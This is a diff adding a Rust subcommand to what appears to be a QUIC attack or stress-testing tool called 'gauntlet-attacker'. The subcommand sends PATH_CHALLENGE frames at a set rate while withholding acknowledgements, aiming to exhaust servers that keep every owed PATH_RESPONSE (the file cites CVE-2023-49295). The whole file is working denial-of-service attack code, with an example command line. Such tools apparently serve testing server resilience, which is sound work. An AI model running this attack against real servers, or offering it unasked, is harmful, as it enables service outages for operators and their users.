@@ -1,0 +1,62 @@
+//! PATH_CHALLENGE frames that want an answer each (RFC 9000, section 8.2; CVE-2023-49295 in one stack).
+
+use std::io::Write;
+
+use clap::Args;
+
+use super::feed::{self, Load};
+use crate::caps::Held;
+use crate::context::{Common, Context, Protocol, SetupError};
+use crate::outcome::Outcome;
+use crate::quic::{Acks, QuicSession};
+use crate::quic_wire::frame;
+use crate::quic_wire::transport_parameters::Stated;
+
+/// Path challenges at a rate, whose answers are not acknowledged
+///
+/// A start is a PATH_CHALLENGE frame. The server owes a PATH_RESPONSE for each; nothing that it sends is acknowledged,
+/// so that its congestion control stops it, and a server without a bound keeps all answers that it owes.
+#[derive(Args, Clone, Debug)]
+#[command(after_long_help = "Example:
+  gauntlet-attacker path-challenge --target 127.0.0.1:4433 --rate 5000")]
+pub struct PathChallenge {
+    #[command(flatten)]
+    common: Common,
+    /// Connections that starts are made on in turn
+    #[arg(long, default_value = "1", value_name = "COUNT")]
+    connections: Held,
+}
+
+impl PathChallenge {
+    /// Runs it.
+    ///
+    /// # Errors
+    /// If it cannot begin, or a line cannot be written.
+    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
+        let context = Context::new(&self.common, &[Protocol::H3])?;
+        feed::run::<Challenges>(&context, self.connections.count(), (), out).await
+    }
+}
+
+struct Challenges(QuicSession);
+
+impl Load for Challenges {
+    type Options = ();
+
+    async fn open(context: &Context, (): &()) -> Result<Self, Outcome> {
+        let mut session = feed::open_quic(context, &Stated::default()).await?;
+        session.client.acks = Acks::Withheld;
+        Ok(Self(session))
+    }
+
+    fn start(&mut self, context: &Context, (): &()) -> Result<(), Outcome> {
+        let mut frames = Vec::with_capacity(9);
+        frame::path_challenge(&mut frames, context.random());
+        self.0.client.send_frames(frames, false);
+        Ok(())
+    }
+
+    async fn turn(&mut self) -> Result<(), Outcome> {
+        feed::turn_quic(&mut self.0).await
+    }
+}
